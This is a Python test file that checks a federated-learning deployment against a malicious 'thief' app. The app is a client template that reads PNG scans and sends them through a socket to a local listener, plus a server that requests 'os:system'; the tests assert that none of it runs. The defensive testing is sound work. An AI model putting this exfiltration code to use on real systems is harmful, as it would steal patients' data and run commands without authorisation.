"""Real processes, and people who mean harm: `fedlens serve`, two `fedlens join`, and a thief who
knows everything but the keys. Run by CI before everything else (`pytest -m trust`).
"""

from __future__ import annotations

import json
import re
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from deployment import BIN
from hospitals import PATIENCE, STUDY, Federation

pytest.importorskip("flwr")
import httpx

from fedlens.engines.flower import engine as flower
from fedlens.sites import network

pytestmark = [pytest.mark.trust, pytest.mark.timeout(600)]


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Federation]:
    federation = Federation(tmp_path_factory.mktemp("trust"))
    try:
        federation.serve()
        for site in (0, 1):
            federation.join(site)
        for site in (0, 1):
            federation.wait_until_joined(site)
        yield federation
    finally:
        federation.close()


THIEF_CLIENT = """
import pathlib, socket
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

pathlib.Path({marker!r}).write_text("imported")
app = ClientApp()

def rob(message, context):
    pathlib.Path({marker!r}).write_text("called")
    with socket.create_connection(("127.0.0.1", {port})) as line:
        for picture in pathlib.Path({data!r}).rglob("*.png"):
            line.sendall(picture.read_bytes())
    loot = ConfigRecord({{"loot": [str(p) for p in pathlib.Path({data!r}).rglob("*.png")]}})
    return Message(RecordDict({{"fedlens": loot}}), reply_to=message)

app.query()(rob)
app.train()(rob)
app.evaluate()(rob)
"""
THIEF_SERVER = """
import json, pathlib, time
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()
REQUEST = {{"version": {version!r}, "recipe": "", "text": "", "job": "j", "heard": -1,
    "forgive": True, "site": "os:system"}}

@app.main()
def main(grid, context):
    heard = []
    for kind in ("query", "train", "evaluate"):
        for fields in ({{"loot": "please"}}, REQUEST):
            for node in grid.get_node_ids():
                content = RecordDict({{"fedlens": ConfigRecord(fields)}})
                pushed = grid.push_messages([Message(content, node, kind)])
                until = time.time() + 60
                while time.time() < until:
                    replies = list(grid.pull_messages(pushed))
                    if replies:
                        heard += [dict(r.content.get("fedlens", {{}})) if r.has_content()
                                  else {{"error": r.error.code}} for r in replies]
                        break
                    time.sleep(0.1)
    pathlib.Path({out!r}).write_text(json.dumps(heard, default=str))
"""
THIEF_PROJECT = """
[project]
name = "thief"
version = "1.0.0"
description = "x"
license = "Apache-2.0"
dependencies = []
[tool.flwr.app]
publisher = "mallory"
[tool.flwr.app.components]
serverapp = "server:app"
clientapp = "client:app"
[tool.flwr.app.config]
"""


def test_a_thiefs_app_runs_at_no_site(here: Federation) -> None:
    """Mallory holds the CA file and reaches the SuperLink itself: he is on the server's machine, or
    is its operator. His app would read pictures, send them through a socket, leave a marker, and
    ask for a function by its name. Nothing of it runs; each site says in its log who asked; what he
    hears is a reason, and not one name of a file."""
    import fedlens

    app, marker, out = (here.folder / n for n in ("thief", "marker", "loot.json"))
    app.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as fence:
        visits: list[Any] = []
        threading.Thread(target=lambda: visits.append(fence.accept()), daemon=True).start()
        facts = {
            "marker": str(marker),
            "port": fence.getsockname()[1],
            "data": str(here.folder),
            "out": str(out),
            "version": fedlens.__version__,
        }
        (app / "client.py").write_text(THIEF_CLIENT.format(**facts))
        (app / "server.py").write_text(THIEF_SERVER.format(**facts))
        (app / "pyproject.toml").write_text(THIEF_PROJECT)
        here.submit(app, "run-thief")
        here.wait_for(out.exists, PATIENCE, "the thief's return")
        assert not marker.exists() and not visits
    heard = json.loads(out.read_text())
    assert len(heard) == 12  # two sites, three kinds, two contents
    assert {h["lost"] for h in heard} <= {"stranger", "recipe"}
    assert "Mustermann" not in out.read_text() and "scans" not in out.read_text()
    for site in (0, 1):
        said = here.log(f"site-{site}")
        assert "mallory/thief 1.0.0, bundle " in said and "this site could not answer run" in said


def test_our_own_app_with_one_byte_changed_is_not_run_either(here: Federation) -> None:
    """The same run twice. The second time one byte of the bundle's client half is another:
    executed anywhere, it would find no module of that name. Both end alike, with the same bits, and
    the sites name both bundles."""
    models = []
    for name in ("as-it-is", "changed"):
        app = here.folder / f"app-{name}"
        out = here.folder / f"run-{name}"
        facts: dict[str, Any] = {
            "name": "study",
            "text": STUDY,
            "out": str(out),
            "resume": False,
            "fresh": False,
            "wait": 60.0,
            "least": 2,
            "forgive": False,
            "bindings": json.dumps({k: v.decode() for k, v in here.bindings().items()}),
        }
        flower.write_app(
            app, "fedlens.sites.server:run_server", "fedlens.sites.site:make_site", facts
        )
        if name == "changed":
            ours = (app / "client.py").read_text()
            theirs = ours.replace("sites.site", "sites.sitf")
            assert sum(a != b for a, b in zip(ours, theirs, strict=True)) == 1
            (app / "client.py").write_text(theirs)
        here.submit(app, f"log-{name}")
        here.wait_for((out / "summary.json").exists, PATIENCE, f"the end of {name}")
        lines = (out / "metrics.jsonl").read_text().splitlines()
        assert json.loads(lines[0])["heard"] == 2
        models.append((out / "model.safetensors").read_bytes())
    assert models[0] == models[1]
    said = here.log("site-0")
    assert len(set(re.findall(r"fedlens/fedlens-job \S+, bundle (\w+)\) asks", said))) == 2


def test_the_operators_apis_answer_nobody_outside(here: Federation) -> None:
    """At the address the sites use. With the CA file alone (every site has it): no answer at all.
    With a site's own key and certificate: 404. `flwr run` with the CA file: no run."""
    url = f"https://127.0.0.1:{here.port}"
    paths = ("/v1/control/list-runs", "/v1/control/start-run", "/v1/runtime/acquire-task")
    with httpx.Client(verify=network.tls_context(here.keys / "ca.crt")) as outsider:
        for path in paths:
            with pytest.raises(httpx.TransportError):
                outsider.post(url + path, content=b"")
    mine = here.keys / "site-0"
    with httpx.Client(
        verify=network.site_tls(here.keys / "ca.crt", Path(f"{mine}.crt"), mine)
    ) as s:
        for path in paths:
            assert s.post(url + path, content=b"").status_code == 404
    with (here.home / "config.toml").open("a") as config:
        config.write(
            f'\n[superlink.front]\naddress = "127.0.0.1:{here.port}"\nroot-certificates ='
            f' "{here.keys / "ca.crt"}"\n'
        )
    app = here.folder / "outside"
    flower.write_app(app, "toy_server:main", "toy_app:make_site", {})
    done = subprocess.run(
        [str(BIN / "flwr"), "run", str(app), "front"],
        env=here.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode != 0 and "run-id" not in done.stdout


def test_a_run_of_the_server_and_what_it_says_when_it_fails(here: Federation) -> None:
    """`fedlens run` in the server's folder ends well; the same with another recipe hears nobody, in
    one message that names the key that differs and both sites, without a traceback, and its exit
    code is not 0."""
    code, said = here.run("good")
    assert code == 0, said
    assert (here.folder / "good" / "model.safetensors").is_file()
    (here.folder / "other.toml").write_text(STUDY.replace('"FedAvg"', '"FedAvg"\nlr = 0.5'))
    code, said = here.run("bad", "--wait", "20", recipe="other.toml")
    assert code == 1, said
    assert "Traceback" not in said
    for site in (0, 1):
        assert (
            f"the site of client {site} was not let in: agreed to another recipe; these keys"
            " differ: algorithm.FedAvg.lr" in said
        )
    assert "0 of 2 sites joined within 20 s" in said


def test_a_site_that_was_killed_comes_back_at_once(here: Federation) -> None:
    """Killed, not asked to end: the SuperLink still counts it as online, and it is back within
    seconds all the same, under the same number; a second one with its folder is refused."""
    here.stop("site-1", signal.SIGKILL)
    before = here.log("site-1").count("joined 127.0.0.1")
    here.join(1)
    here.wait_until_joined(1, before + 1)
    program, *rest = here.join_command(1)
    second = subprocess.run(
        [str(BIN / program), *rest], env=here.env, capture_output=True, text=True, timeout=120
    )
    assert second.returncode == 2 and "is running with" in second.stderr
    code, said = here.run("again")
    assert code == 0, said
